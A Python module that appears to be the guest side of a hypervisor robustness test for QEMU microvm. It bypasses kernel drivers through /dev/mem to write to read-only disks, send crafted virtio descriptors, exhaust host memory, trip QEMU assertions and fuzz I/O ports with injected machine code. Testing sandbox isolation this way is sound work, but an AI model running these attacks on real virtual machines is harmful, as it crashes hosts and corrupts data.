"""Attacks on the machine itself: registers of every virtio device and port, descriptors of our own making."""

import ctypes
import mmap
import os
import random
import struct
import time

BASE, STRIDE, SLOTS = 0xFEB00000, 0x200, 24  # QEMU, include/hw/i386/microvm.h
PAGE = 4096
DRIVERS = "/sys/bus/platform/drivers/virtio-mmio/"
STATUS, QUEUE_SEL, QUEUE_NUM, QUEUE_READY, NOTIFY = 0x70, 0x30, 0x38, 0x44, 0x50
DESCRIPTORS, DRIVER, DEVICE = 0x80, 0x90, 0xA0
REGISTERS = (0x14, 0x20, 0x24, 0x30, 0x38, 0x44, 0x50, 0x64, 0x70, 0x80, 0x84, 0x90, 0xA0, 0xB0, 0x100)
VALUES = (0, 1, 3, 11, 15, 0x80, 0xFF, 0x7FFF, 0xFFFFFFFF)
RANDOM_DEVICE, BLOCK_DEVICE, SERIAL_DEVICE = 4, 2, 3
libc = ctypes.CDLL(None, use_errno=True)
kept = []


class Registers:
    """A virtio-mmio slot (virtio 1.2, 4.2.2), written from user space."""

    def __init__(self, slot):
        address = BASE + slot * STRIDE
        descriptor = os.open("/dev/mem", os.O_RDWR | os.O_SYNC)
        self.page = mmap.mmap(descriptor, PAGE, offset=address & ~(PAGE - 1))
        os.close(descriptor)
        self.words = (ctypes.c_uint32 * (STRIDE // 4)).from_buffer(self.page, address & (PAGE - 1))

    def read(self, offset):
        return self.words[offset // 4]

    def write(self, offset, value):
        self.words[offset // 4] = value & 0xFFFFFFFF

    def write64(self, offset, value):
        self.write(offset, value)
        self.write(offset + 4, value >> 32)


class Page:
    """A page of ours and where it lies in physical memory."""

    def __init__(self):
        self.memory = mmap.mmap(-1, PAGE, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | 0x2000)  # MAP_LOCKED
        self.memory[0:PAGE] = bytes(PAGE)
        virtual = ctypes.addressof(ctypes.c_char.from_buffer(self.memory))
        with open("/proc/self/pagemap", "rb") as file:
            file.seek(virtual // PAGE * 8)
            self.address = (struct.unpack("<Q", file.read(8))[0] & (2**55 - 1)) * PAGE


class Queue:
    """A virtqueue of eight descriptors of our own making."""

    def __init__(self, registers, index=0):
        self.registers, self.index, self.sent = registers, index, 0
        self.table, self.driver, self.device = Page(), Page(), Page()
        registers.write(QUEUE_SEL, index)
        registers.write(QUEUE_NUM, 8)
        for register, page in ((DESCRIPTORS, self.table), (DRIVER, self.driver), (DEVICE, self.device)):
            registers.write64(register, page.address)
        registers.write(QUEUE_READY, 1)

    def send(self, chain):
        """Offers one chain of (address, length, flags, next) and waits a moment for the device to take it."""
        for number, entry in enumerate(chain):
            struct.pack_into("<QIHH", self.table.memory, number * 16, *entry)
        struct.pack_into("<H", self.driver.memory, 4 + self.sent % 8 * 2, 0)
        self.sent = (self.sent + 1) & 0xFFFF
        struct.pack_into("<H", self.driver.memory, 2, self.sent)
        self.registers.write(NOTIFY, self.index)
        for _ in range(200):
            if struct.unpack_from("<H", self.device.memory, 2)[0] == self.sent:
                return True
            time.sleep(0.001)
        return False


def bound_slots():
    """Names of the platform devices that a driver holds, by their slots."""
    found = {}
    with open("/proc/iomem", encoding="ascii") as file:
        for line in file:
            start, _, name = line.strip().partition(" : ")
            if name.startswith("LNRO0005:"):
                found[(int(start.split("-")[0], 16) - BASE) // STRIDE] = name.split()[0]
    return found


def take_all(bound):
    """Takes all devices from their drivers: /dev/mem shows no page of which a driver holds a part, and they share one."""
    if libc.mlockall(1) != 0:  # MCL_CURRENT: what runs comes from the disk that is going
        raise OSError(ctypes.get_errno(), "mlockall")
    for name in bound.values():
        with open(DRIVERS + "unbind", "w", encoding="ascii") as file:
            file.write(name)


def give_back(guest, bound, slots):
    """Gives devices back to their drivers, which reset them; those of our channels first of all."""
    for slot in slots:
        with open(DRIVERS + "bind", "w", encoding="ascii") as file:
            file.write(bound[slot])
    guest.reopen()


def start(registers):
    for status in (0, 1, 3):
        registers.write(STATUS, status)
    registers.write(0x24, 1)
    registers.write(0x20, 1)  # VIRTIO_F_VERSION_1
    registers.write(0x24, 0)
    registers.write(0x20, 0)
    registers.write(STATUS, 11)


def devices(kind):
    """Slots with a device of a kind. The registers of a bound device can be read only after it was unbound."""
    found = []
    for number, name in sorted(bound_slots().items()):
        for entry in os.listdir("/sys/bus/platform/devices/" + name):
            if entry.startswith("virtio"):
                with open("/sys/bus/platform/devices/%s/%s/device" % (name, entry), encoding="ascii") as file:
                    if int(file.read(), 16) == kind:
                        found.append(number)
    return found


def write_disks_raw(guest):
    """Drives both disks without the kernel: requests that write, discard and zero, as no driver of a read-only disk would send them."""
    guest.ready()
    answers, bound = {}, bound_slots()
    channels, disks = devices(SERIAL_DEVICE), devices(BLOCK_DEVICE)
    take_all(bound)
    for slot in disks:
        registers = Registers(slot)
        start(registers)
        queue = Queue(registers)
        registers.write(STATUS, 15)
        data, status = Page(), Page()
        data.memory[0:PAGE] = b"owned!!!" * (PAGE // 8)
        answers[str(slot)] = {}
        for kind in (0, 1, 4, 8, 11, 13, 14, 16, 0x80000000):
            request = Page()
            struct.pack_into("<IIQ", request.memory, 0, kind, 0, 0)
            status.memory[0] = 0xFF
            flags = 3 if kind in (0, 8) else 1  # VIRTQ_DESC_F_NEXT, and F_WRITE where the device writes
            length = 16 if kind in (11, 13, 14) else PAGE
            taken = queue.send(((request.address, 16, 1, 1), (data.address, length, flags, 2), (status.address, 1, 2, 0)))
            answers[str(slot)]["%x" % kind] = status.memory[0] if taken else -1
    give_back(guest, bound, channels)
    guest.result(facts=answers)


def crafted_descriptors(guest, seed, rounds):
    """Descriptors that point outside of memory, at registers, at themselves, with lengths that wrap: to the random device and to disks."""
    chance = random.Random(seed)
    guest.ready()
    bound, taken = bound_slots(), 0
    targets = [slot for kind in (RANDOM_DEVICE, BLOCK_DEVICE) for slot in devices(kind)]
    channels = devices(SERIAL_DEVICE)
    take_all(bound)
    addresses = [0, 0xFEB00000, 0xFEE00000, 0xFFFFF000, 2**32, 2**40, 2**63, 2**64 - 1, 2**64 - PAGE, 0x13FFF000, 0x14000000]
    lengths = [0, 1, 16, PAGE, 2**20, 2**31, 2**32 - 1]
    for _ in range(rounds):
        for slot in targets:
            registers = Registers(slot)
            start(registers)
            queue = Queue(registers)
            registers.write(STATUS, 15)
            page = Page()
            struct.pack_into("<IIQ", page.memory, 0, chance.choice((0, 1, 4, 8, 11, 13)), 0, chance.choice((0, 1, 2**32, 2**63, 2**64 - 1)))
            chain = [(page.address, 16, 1, 1)] if chance.random() < 0.5 else []
            for number in range(len(chain), 4):
                flags = chance.choice((1, 2, 3, 4, 5, 7))  # NEXT, WRITE, INDIRECT and what may not be together
                chain.append((chance.choice([*addresses, page.address]), chance.choice(lengths), flags, chance.randrange(9)))
            taken += queue.send(chain)
    give_back(guest, bound, channels)
    guest.result(facts={"targets": len(targets), "taken": taken})


def ask_for_randomness(guest, size):
    """One request for more random bytes than the guest has memory; QEMU would have to hold them all."""
    guest.ready()
    bound, channels = bound_slots(), devices(SERIAL_DEVICE)
    sources = devices(RANDOM_DEVICE)
    take_all(bound)
    registers = Registers(sources[0])
    start(registers)
    queue = Queue(registers)
    registers.write(STATUS, 15)
    page = Page()
    queue.send([(page.address, size, 2, 0)])
    time.sleep(1)
    give_back(guest, bound, channels)
    guest.result()


def abort_serial(guest):
    """Writes that are wider than the serial line's registers, or reach over their end: an assertion of QEMU fails."""
    guest.ready()
    functions = ports()
    for port in range(0x3F0, 0x400):
        for width in (2, 4):
            functions[width](port, 0)


def poke_slots(guest, seed):
    """Writes noise to the registers of all 24 slots, those of our own channels included, and comes back where it can."""
    chance = random.Random(seed)
    guest.ready()
    bound, channels = bound_slots(), devices(SERIAL_DEVICE)
    take_all(bound)
    found = []
    for slot in range(SLOTS):
        registers = Registers(slot)
        found.append(registers.read(8))
        for _ in range(300):
            registers.write(chance.choice((*REGISTERS, chance.randrange(STRIDE // 4) * 4)), chance.choice((*VALUES, chance.getrandbits(32))))
            registers.read(chance.randrange(STRIDE // 4) * 4)
    give_back(guest, bound, channels)
    guest.result(facts={"devices": sorted(kind for kind in found if kind)})


# in al, dx / out dx, al and their wider forms, as functions (port, value); System V calling convention.
IN = bytes.fromhex("89fa31c0ecc3")
OUT = {1: bytes.fromhex("89fa89f0eec3"), 2: bytes.fromhex("89fa89f066efc3"), 4: bytes.fromhex("89fa89f0efc3")}
# Ports whose devices end the machine when they are asked to; they come last.
SHUTDOWN = {0x60, 0x64, 0x92, 0xCF9, 0x501, 0x604}


def poke_ports(guest, seed, end):
    """Reads every port below `end` and writes noise to it; those of the serial console byte by byte only, which see."""
    chance = random.Random(seed)
    guest.ready()
    functions = ports()
    numbers = [port for port in {*range(end), 0x5658, 0x5659} if port not in SHUTDOWN]
    chance.shuffle(numbers)
    for port in numbers:
        functions[0](port, 0)
    guest.say({"type": "phase", "name": "read"})
    for port in [*numbers, *sorted(SHUTDOWN)]:
        for width in (1,) if 0x3F0 <= port < 0x400 else (1, 2, 4):
            functions[width](port, chance.getrandbits(32))
    guest.result(facts={"ports": len(numbers)})


def ports():
    """Functions (port, value) in machine code, by the bytes that they write; 0 reads one."""
    if libc.iopl(3) != 0:
        raise OSError("iopl")
    page = mmap.mmap(-1, PAGE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    kept.append(page)
    functions = {}
    for at, (width, code) in enumerate({0: IN, **OUT}.items()):
        page[at * 16 : at * 16 + len(code)] = code
        address = ctypes.addressof(ctypes.c_char.from_buffer(page, at * 16))
        functions[width] = ctypes.CFUNCTYPE(ctypes.c_uint8, ctypes.c_uint32, ctypes.c_uint32)(address)
    return functions
